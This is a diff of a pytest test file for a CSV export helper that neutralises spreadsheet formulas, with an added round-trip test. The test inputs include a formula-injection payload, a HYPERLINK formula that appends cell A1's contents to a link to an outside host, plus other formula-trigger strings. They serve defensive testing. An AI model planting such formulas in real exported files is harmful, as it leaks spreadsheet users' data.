@@ -6,7 +6,7 @@ import io
 import pandas as pd
 import pytest
 
-from age_tasks.reports.safe_csv import as_csv
+from age_tasks.reports.safe_csv import as_csv, as_written
 
 CALC = '=HYPERLINK("http://elsewhere/?"&A1,"open")'
 
@@ -25,6 +25,13 @@ def test_a_formula_gets_an_apostrophe(text: str):
 @pytest.mark.parametrize("text", ["a=b.jpg", "00-1.jpg", "2026/a face.jpg", "-3", "+3.5", "", "'quoted'"])
 def test_other_text_and_numbers_are_unchanged(text: str):
     assert cells(as_csv(pd.DataFrame({"file_name": [text]}))) == ["file_name", text]
+
+
+@pytest.mark.parametrize(
+    "text", [CALC, "+1+1", "-2+3", "@SUM(A1)", "＝1+1", "-", "-3", "+3.5", "", "a=b.jpg", "'quoted'", "'-3", "'"]
+)
+def test_a_text_is_read_as_it_was_written(text: str):
+    assert as_written(cells(as_csv(pd.DataFrame({"file_name": [text]})))[1]) == text
 
 
 def test_a_semicolon_does_not_split_a_cell():
